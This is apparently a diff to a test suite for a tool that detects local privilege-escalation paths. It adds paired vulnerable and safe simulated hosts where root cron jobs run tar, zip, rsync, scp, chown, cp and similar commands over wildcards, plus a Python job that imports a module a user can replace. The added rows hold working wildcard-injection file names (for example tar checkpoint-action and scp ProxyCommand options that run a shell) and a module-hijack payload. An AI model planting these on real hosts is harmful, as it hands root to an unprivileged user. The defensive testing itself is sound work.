@@ -38,8 +38,9 @@ Files = dict[str, tuple[str, str, list[str]]]
 
 @dataclass(frozen=True, kw_only=True)
 class Row:
-    """One such host: `user` puts a text at `path`, and root runs `then`; `files` are those that are certain, `perhaps` those that are not.
+    """One such host: `user` does what `lays` says and puts a text at `path`, and root runs `then`.
 
+    `files` are those that are certain, `perhaps` those that are not.
     `twin` is the host that differs in the one thing: there the same does not make anybody root.
     """
 
@@ -48,6 +49,7 @@ class Row:
     user: str = "dave"
     path: str = SCRIPT
     text: str = WRITTEN
+    lays: str = ":"
     then: tuple[str, ...] = ("sh", "-c", SCRIPT)
     files: Files
     perhaps: tuple[str, ...] = ()
@@ -56,7 +58,8 @@ class Row:
     def becomes_root(self, world: RootlessWorld) -> bool:
         """Say whether the user becomes root: changes the file, and is run."""
         home = f"{world.base}/home"
-        changed = can(world, self.user, "/usr/bin/python3", "-I", "-c", PUT, self.path.replace("{home}", home), self.text)
+        laid = can(world, self.user, "sh", "-ec", self.lays)
+        changed = laid and can(world, self.user, "/usr/bin/python3", "-I", "-c", PUT, self.path.replace("{home}", home), self.text)
         can(world, "root", *(word.replace("{home}", home) for word in self.then))
         return changed and can(world, "root", "grep", "-qx", "0", BECAME)
 
@@ -85,6 +88,36 @@ def pair(name: str, of_twin: str, fault: Plant, without: Plant, files: Files, **
     return [Row(name=name, plant=fault, files=files, twin=of_twin, **more), Row(name=of_twin, plant=without, files={}, **{**more, **other})]
 
 
+DROP = f"{SITE}/drop"
+AGAIN = f'{SCRIPT}; setpriv --reuid=dave --regid=dave --clear-groups sh -c \'{{ echo "#!/bin/sh"; echo "id -u > {BECAME}"; }} > {SCRIPT}\'; {SCRIPT}'
+"""What root does now and at the next time, and dave between the two."""
+OWNERS = f"touch .mine -- --reference=.mine -H; chmod 0777 .mine; ln -s {SCRIPT} link"
+COPIES = f"ln -s {SITE} .to; touch -- --target-directory=.to"
+
+
+def in_drop(command: str, owner: str = "dave") -> Plant:
+    """Return the planting of a script of root's cron that does something with what is in a directory, and of whose that is."""
+    return all_of(table(SCRIPT), file(SCRIPT, f"#!/bin/sh\ncd {DROP} && {command}"), shell(f"mkdir {DROP}; touch {DROP}/data; chown -R {owner} {DROP}"))
+
+
+def by_names(program: str, command: str, harmless: str, lays: str, path: str = f"{DROP}/.x") -> list[Row]:
+    """Return a host on which a program of root's takes names of files for options; the twin is harmless by its command, or because the directory is root's."""
+    fault, twin = in_drop(command), in_drop(harmless or command, owner="dave" if harmless else "root")
+    files: Files = {DROP: ("script", "wait", ["dave"])}
+    names = (
+        f"names of a user's files for {program}",
+        f"{program} in root's directory" if not harmless else f"names of a user's files that {program} takes for files",
+    )
+    return pair(*names, fault, twin, files, path=path, lays=f"cd {DROP}; {lays}", then=("sh", "-c", AGAIN))
+
+
+def in_python(options: str = "", *more: str) -> Plant:
+    """Return the planting of a program of root's cron in Python, which imports a module of its own and one of Python's."""
+    return all_of(table(JOB), file(JOB, f"#!/usr/bin/python3{options}\nimport os\nimport json"), shell(*more))
+
+
+JOB = f"{SITE}/job.py"
+LAID = f"import os\nwith open('{BECAME}', 'w') as file:\n    print(os.getuid(), file=file)\n"
 CRON: Callable[[str], Files] = lambda path: {path: ("cron", "wait", ["dave"])}  # noqa: E731 - a row in a word
 ROWS = [
     *pair(
@@ -214,6 +247,37 @@ ROWS = [
         ),
         {SCRIPT: ("pam", "nothing", ["dave"])},
         then=("su", "-s", "/bin/true"),
+    ),
+    *by_names("tar", "tar czf ../all.tgz *", "tar czf ../all.tgz ./*", "touch -- --checkpoint=1 '--checkpoint-action=exec=sh .x'"),
+    *by_names("zip", "zip -qr ../all.zip *", "", "touch -- -T '-TTsh .x'"),
+    *by_names("rsync", "rsync -a * 127.0.0.1:/all/", "rsync -a -- * 127.0.0.1:/all/", "touch -- '-esh .x'"),
+    *by_names("scp", "scp -q * 127.0.0.1:/all/", "scp -q ./* 127.0.0.1:/all/", "touch -- '-oProxyCommand=sh .x'"),
+    *by_names("chown", "chown -R root *", "chown -R root ./*", OWNERS),
+    *by_names("chmod", "nice chmod go-w *", "nice chmod go-w -- *", OWNERS),
+    *by_names("cp", "cp -a * ../", "cp -a -- * /run/", COPIES, f"{DROP}/backup.sh"),
+    *by_names("mv", "mv * ../", "", COPIES, f"{DROP}/backup.sh"),
+    *by_names("install", "install * ../", "install -- * /run/", COPIES, f"{DROP}/backup.sh"),
+    *by_names("ln", "ln -f * ../", "ln -f -- * /run/", COPIES, f"{DROP}/backup.sh"),
+    *by_names("sort", "sort * > /run/sorted", "sort -- * > /run/sorted", "ln -s ../backup.sh .to; touch -- -o.to", f"{DROP}/text"),
+    *pair(
+        "a module of a user's beside a program in Python of root's cron",
+        "a module of root's beside a program in Python of root's cron",
+        in_python("", f"touch {SITE}/json.py; chown dave {SITE}/json.py"),
+        in_python("", f"touch {SITE}/json.py"),
+        {f"{SITE}/json.py": ("library-path", "wait", ["dave"])},
+        path=f"{SITE}/json.py",
+        text=LAID,
+        then=("sh", "-c", JOB),
+    ),
+    *pair(
+        "a program in Python of root's cron where everybody may lay modules",
+        "a program in Python of root's cron that loads nothing from beside it",
+        in_python("", f"chmod 1777 {SITE}"),
+        in_python(" -I", f"chmod 1777 {SITE}"),
+        {SITE: ("library-path", "wait", ["everyone"])},
+        path=f"{SITE}/json.py",
+        text=LAID,
+        then=("sh", "-c", JOB),
     ),
     *pair(
         "a part of the profile that a user owns",
